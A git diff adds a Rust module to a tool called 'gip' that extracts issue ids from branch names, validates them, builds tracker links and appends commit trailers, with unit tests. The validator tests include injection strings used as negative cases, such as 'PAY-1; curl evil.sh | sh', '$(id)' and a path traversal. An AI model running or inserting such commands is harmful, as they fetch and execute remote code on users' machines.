@@ -0,0 +1,243 @@
+//! Issue tracker ids from branch names
+//!
+//! Teams often name branches after the ticket they implement, like
+//! `feature/PAY-142-retry`. With a pattern configured, `gip commit` records
+//! the ids it finds in the branch name in the manifest's `issues` and as a
+//! trailer of the commit message, and `gip context` links them:
+//!
+//! ```toml
+//! [issues]
+//! pattern = "[A-Z]+-\\d+"   # the first capture group, or the whole match, is the id
+//! url = "https://jira.example.com/browse/{id}"
+//! trailer = "Refs"          # "" leaves commit messages alone
+//! ```
+//!
+//! Without a pattern nothing is recorded; the `{{ticket}}` template variable
+//! still falls back to [`template::ticket_from_branch`]. Enriched markers can
+//! also show the title and status of each issue, see [`crate::tracker`].
+
+use crate::template;
+use anyhow::{Context, Result};
+use regex::Regex;
+use serde::Deserialize;
+
+/// Trailer listing the issues of a commit
+pub const DEFAULT_TRAILER: &str = "Refs";
+
+/// `[issues]` section of `.gip/config.toml`
+#[derive(Debug, Clone, Deserialize, PartialEq)]
+#[serde(default)]
+pub struct IssuesConfig {
+    /// Regex finding issue ids in branch names
+    pub pattern: Option<String>,
+    /// Link to an issue; `{id}` is replaced, otherwise the id is appended
+    pub url: Option<String>,
+    /// Commit message trailer listing the ids; empty adds none
+    pub trailer: String,
+    /// Tracker asked for issue titles and statuses
+    pub tracker: Option<TrackerKind>,
+    /// API base of the tracker, e.g. `https://api.github.com/repos/<owner>/<repo>`
+    pub api: Option<String>,
+    /// Shell command printing the issue in `$GIP_ISSUE_ID` as JSON; overrides `tracker`
+    pub fetch_command: Option<String>,
+    /// How long fetched issues are reused
+    pub cache_hours: u64,
+}
+
+/// Issue trackers gip knows the API of
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum TrackerKind {
+    Github,
+    Jira,
+}
+
+/// Hours fetched issues are reused by default
+pub const DEFAULT_CACHE_HOURS: u64 = 24;
+
+impl Default for IssuesConfig {
+    fn default() -> Self {
+        Self {
+            pattern: None,
+            url: None,
+            trailer: DEFAULT_TRAILER.to_string(),
+            tracker: None,
+            api: None,
+            fetch_command: None,
+            cache_hours: DEFAULT_CACHE_HOURS,
+        }
+    }
+}
+
+impl IssuesConfig {
+    /// The issue ids in a branch name, in order of appearance
+    pub fn from_branch(&self, branch: &str) -> Result<Vec<String>> {
+        let Some(ref pattern) = self.pattern else {
+            return Ok(Vec::new());
+        };
+        let regex = Regex::new(pattern)
+            .with_context(|| format!("Invalid [issues] pattern '{}'", pattern))?;
+
+        let mut ids: Vec<String> = Vec::new();
+        for captures in regex.captures_iter(branch) {
+            let id = captures.get(1).or_else(|| captures.get(0));
+            if let Some(id) = id.map(|m| m.as_str().to_string()) {
+                if !ids.contains(&id) {
+                    ids.push(id);
+                }
+            }
+        }
+        Ok(ids)
+    }
+
+    /// The first issue id of a branch, for the `{{ticket}}` template variable
+    pub fn ticket(&self, branch: &str) -> Option<String> {
+        match self.pattern {
+            Some(_) => self.from_branch(branch).ok()?.into_iter().next(),
+            None => template::ticket_from_branch(branch),
+        }
+    }
+
+    /// Whether `id` looks like an issue id, and so is safe to hand to a tracker
+    ///
+    /// Ids come from manifests anyone can push, so only letters, digits, `#`,
+    /// `_` and `-` are accepted, and with a `pattern` it must find the id too.
+    pub fn is_valid_id(&self, id: &str) -> bool {
+        let plain = !id.is_empty()
+            && id
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '#' | '_' | '-'));
+        plain
+            && (self.pattern.is_none()
+                || self
+                    .from_branch(id)
+                    .is_ok_and(|ids| ids.iter().any(|i| i == id)))
+    }
+
+    /// The tracker URL of an issue, if a base URL is configured
+    pub fn link(&self, id: &str) -> Option<String> {
+        let url = self.url.as_deref()?;
+        // GitHub-style ids are written `#87` but linked as `.../issues/87`
+        let id = id.trim_start_matches('#');
+        Some(if url.contains("{id}") {
+            url.replace("{id}", id)
+        } else {
+            format!("{}/{}", url.trim_end_matches('/'), id)
+        })
+    }
+}
+
+/// Add a `<key>: <ids>` trailer for the ids a message doesn't mention yet
+///
+/// The trailer joins an existing trailer block instead of starting a new
+/// paragraph, so git still reads both.
+pub fn add_trailer(message: &str, key: &str, ids: &[String]) -> String {
+    let missing: Vec<&str> = ids
+        .iter()
+        .map(String::as_str)
+        .filter(|id| !message.contains(id))
+        .collect();
+    if key.is_empty() || missing.is_empty() {
+        return message.to_string();
+    }
+
+    let message = message.trim_end();
+    let trailer = format!("{}: {}", key, missing.join(", "));
+    let last_paragraph = message.rsplit("\n\n").next().unwrap_or("");
+    let in_block = message.contains("\n\n") && last_paragraph.lines().all(is_trailer_line);
+    if in_block {
+        format!("{}\n{}", message, trailer)
+    } else {
+        format!("{}\n\n{}", message, trailer)
+    }
+}
+
+fn is_trailer_line(line: &str) -> bool {
+    line.split_once(": ").is_some_and(|(key, _)| {
+        !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn config() -> IssuesConfig {
+        IssuesConfig {
+            pattern: Some(r"(?i)\b([a-z]+-\d+)".to_string()),
+            url: Some("https://jira.example.com/browse/{id}".to_string()),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn test_from_branch() {
+        let config = config();
+        assert_eq!(
+            config.from_branch("feature/PAY-142-and-PAY-7").unwrap(),
+            vec!["PAY-142", "PAY-7"]
+        );
+        assert!(config.from_branch("main").unwrap().is_empty());
+        assert!(IssuesConfig::default()
+            .from_branch("feature/PAY-142")
+            .unwrap()
+            .is_empty());
+
+        let broken = IssuesConfig {
+            pattern: Some("(".to_string()),
+            ..Default::default()
+        };
+        assert!(broken.from_branch("x").is_err());
+    }
+
+    #[test]
+    fn test_is_valid_id() {
+        let config = config();
+        assert!(config.is_valid_id("PAY-142"));
+        assert!(!config.is_valid_id("notes"));
+        assert!(!config.is_valid_id("PAY-1; curl evil.sh | sh"));
+        assert!(!config.is_valid_id("PAY-1$(id)"));
+
+        let any = IssuesConfig::default();
+        assert!(any.is_valid_id("#87"));
+        assert!(any.is_valid_id("GH_12"));
+        assert!(!any.is_valid_id(""));
+        assert!(!any.is_valid_id("87/../../admin"));
+        assert!(!any.is_valid_id("87 `id`"));
+    }
+
+    #[test]
+    fn test_link() {
+        assert_eq!(
+            config().link("PAY-142").as_deref(),
+            Some("https://jira.example.com/browse/PAY-142")
+        );
+        let github = IssuesConfig {
+            url: Some("https://github.com/o/r/issues/".to_string()),
+            ..Default::default()
+        };
+        assert_eq!(
+            github.link("#87").as_deref(),
+            Some("https://github.com/o/r/issues/87")
+        );
+        assert_eq!(IssuesConfig::default().link("PAY-142"), None);
+    }
+
+    #[test]
+    fn test_add_trailer() {
+        let ids = vec!["PAY-142".to_string()];
+        assert_eq!(
+            add_trailer("fix: retry", "Refs", &ids),
+            "fix: retry\n\nRefs: PAY-142"
+        );
+        assert_eq!(
+            add_trailer("fix: retry\n\nGip-Context: abc", "Refs", &ids),
+            "fix: retry\n\nGip-Context: abc\nRefs: PAY-142"
+        );
+        assert_eq!(
+            add_trailer("fix(PAY-142): retry", "Refs", &ids),
+            "fix(PAY-142): retry"
+        );
+        assert_eq!(add_trailer("fix: retry", "", &ids), "fix: retry");
+    }
+}